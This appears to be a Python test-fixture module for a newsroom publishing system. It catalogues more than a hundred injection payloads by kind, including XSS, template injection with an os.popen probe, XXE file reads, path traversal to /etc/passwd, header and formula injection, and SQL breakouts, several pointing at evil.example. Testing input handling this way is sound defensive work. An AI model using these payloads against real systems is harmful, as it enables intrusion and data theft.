"""What an attacker writes where a newsroom expects a word: more than a hundred payloads, by kind.

Two of them prove by what they print: `SUM` is the product that a template engine
would work out, `CANARY` stands in for a file's path, whose content must come out nowhere.
"""

from __future__ import annotations

SUM = "641243"
CANARY = "CANARYPATH"
"""Replaced by the path of a file that a test made, with a secret word in it."""

SCRIPT = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</ScRiPt\t><sCrIpT>alert(1)//",
    "<script src=//evil.example/x.js></script>", "<!--<script>alert(1)</script>-->", "--><script>alert(1)</script><!--",
    "<!-- x --!><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "\u017fcript<\u017fcript>alert(1)</\u017fcript>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\\u003cscript\\u003ealert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip
HANDLER = (
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>", "<x onclick=alert(1) id=x tabindex=1>",
    "<a onpointerrawupdate=alert(1)>x</a>", "<div oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>", "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "x onerror=alert(1) y",
    "` onload=alert(1) ", "\"\tautofocus\nonfocus=alert(1)\f//", "\" hx-on:load=\"alert(1)", "\" hx-get=\"//evil.example",
)  # fmt: skip
MUTATION = (
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><script>alert&#40;1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/>",
    "<math href=\"javascript:alert(1)\">x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<template><script>alert(1)</script></template>", "<xmp><p title=\"</xmp><img src onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>", "<select><iframe></select><img src=x onerror=alert(1)>",
    "<div><template shadowrootmode=open><slot></slot><script>alert(1)</script></template></div>",
)  # fmt: skip
ADDRESS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\r\nscript:alert(1)", "\x01javascript:alert(1)",
    " \u00a0javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)",
    "javascript://evil.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "blob:https://evil.example/x", "file:///etc/passwd",
    "//evil.example/x", "/\\evil.example/x", "https:evil.example", "https://evil.example\\@good.example/",
    "https://good.example@evil.example/", "https://evil.example/\u202egpj.exe", "https://evil.example/\"onclick=alert(1)//",
    "https://evil.example/x' onclick='alert(1)", "http://127.0.0.1:1/x.jpg", "ftp://evil.example/x", "mailto:a@b.example?bcc=c@d.example%0d%0aX: y",
    "https://evil.example/x.jpg 1x, javascript:alert(1) 2x", "intent://x#Intent;scheme=javascript;end", "https://evil.example/<script>alert(1)</script>",
)  # fmt: skip
ELEMENT = (
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=manifest href=//evil.example>", "<style>*{display:none}</style>", "<p style=\"position:fixed;inset:0;background:url(//evil.example)\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=//evil.example></object>", "<embed src=//evil.example>",
    "<form action=//evil.example><input name=csrf><button formaction=javascript:alert(1)>x", "<img srcset='//evil.example/x 1x' src=//evil.example/y>",
    "<a href=//evil.example target=_blank ping=//evil.example>x</a>", "<a id=main name=main href=x>", "<img name=body><form id=document><input name=cookie>",
    "<portal src=//evil.example>", "<frameset><frame src=javascript:alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "</main><main>", "</article></main></body></html><p>after", "<audio src=//evil.example autoplay>", "<isindex type=image src=1 onerror=alert(1)>",
)  # fmt: skip
TEMPLATE = (
    "{{79*8117}}", "{% print(79*8117) %}", "{# {{79*8117}} #}{{79*8117}}", "${79*8117}", "#{79*8117}", "<%= 79*8117 %>",
    "{{ site.__class__.__mro__ }}", "{{ ''.__class__.__base__.__subclasses__() }}", f"{{% include '{CANARY}' %}}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}", "{0.__class__}{site}{url}", "%(url)s%s%n", "$(79*8117) `id`", "{{url}}{{policy}}",
)  # fmt: skip
XML = (
    "]]>", "]]]]><![CDATA[>", "<![CDATA[<b>]]>", "<?xml version='1.0'?>", "<?php echo 79*8117 ?>", "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{CANARY}'>]>&e;", "&e;&undeclared;", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://CANARYPATH' parse='text'/>",
    "<item><title>smuggled</title></item>", "</channel></rss><rss>", "&#0;&#x1b;&#xffff;&#xd800;", "<xsl:script xmlns:xsl='x'>",
)  # fmt: skip
PLACE = (
    "../../../../../../../tmp/copytaster-was-here", "..\\..\\..\\copytaster-was-here", "%2e%2e%2f%2e%2e%2fcopytaster-was-here",
    "..%252f..%252fcopytaster-was-here", "....//....//copytaster-was-here", "/etc/passwd", "C:\\Windows\\system32", "CON", "NUL.html", "aux.txt",
    "..", ".", ".staging", ".htaccess", "index.html", "gone.json", "ledger/checkpoint", "name\x00.html", "a/b/c", "-rf", "--help", "~root",
    "x" * 300, "\u202elmth.exe", "\\\\evil.example\\share", "file name.html\n", "con:stream",
)  # fmt: skip
LINE = (
    "\r\nX-Evil: 1\r\n\r\n<script>alert(1)</script>", "\nX-Evil: 1", "\rX-Evil: 1", "\u2028X-Evil: 1\u2029", "\x85X-Evil: 1", "%0d%0aX-Evil:%201",
    "\r\nBcc: all@evil.example\r\n\r\nevil", "\nSubject: evil", "=?utf-8?q?=0d=0aX-Evil:_1?=", "\nERROR forged log line", "\x0bX-Evil\x0c: 1\x1c\x1d\x1e",
    ">; rel=\"hub\", <https://evil.example/", "x\", evil=\"1",
)  # fmt: skip
TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x9b31m", "\x1bP\x1b\\", "\x08\x08\x7f",
    "[red]x[/red]", "[/]", "[link=https://evil.example]x[/link]", "[bold", "\u202eevil\u202c", "\u2066\u202d\u2067", "\u200f\u200e\ufeff", "\ud800", "\udfff<b>", "\ufffe\uffff",
    "a\u0300" * 60, "\U000e0001\U000e0041", "\u2063\u2064\u180e\u200b",
)  # fmt: skip
PARTNER = (
    "[gallery ids=1]", "[caption]<img src=x onerror=alert(1)>[/caption]", "[embed]https://evil.example[/embed]", "&#91;audio src=//evil.example&#93;",
    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->", "<!-- wp:embed {\"url\":\"https://evil.example\"} /-->", "\nhttps://evil.example/embed\n",
    "<!--more-->", "<!--nextpage-->", "{{shortcode}}", "[[evil]]",
)  # fmt: skip
SHEET = (
    "=1+1",
    '=HYPERLINK("https://evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
)
DATA = (
    "\"}</script><script>alert(1)</script>", "\",\"evil\":\"1", "\\\",\"evil\":1,\"", "\\", "'; DROP TABLE stories; --", "\" OR 1=1 --", "NEAR(\"*", "a\" AND b*",
    "__proto__", "constructor", "null", "-->]]>*/'\"`;", "\\x3cscript\\x3e", "*/alert(1)/*", "@import '//evil.example'", "expression(alert(1))", "url(javascript:alert(1))",
)  # fmt: skip

KINDS: dict[str, tuple[str, ...]] = {
    "script": SCRIPT, "handler": HANDLER, "mutation": MUTATION, "address": ADDRESS, "element": ELEMENT, "template": TEMPLATE, "xml": XML, "place": PLACE,
    "line": LINE, "terminal": TERMINAL, "partner": PARTNER, "sheet": SHEET, "data": DATA,
}  # fmt: skip
ALL: tuple[str, ...] = tuple(dict.fromkeys(p for kind in KINDS.values() for p in kind))
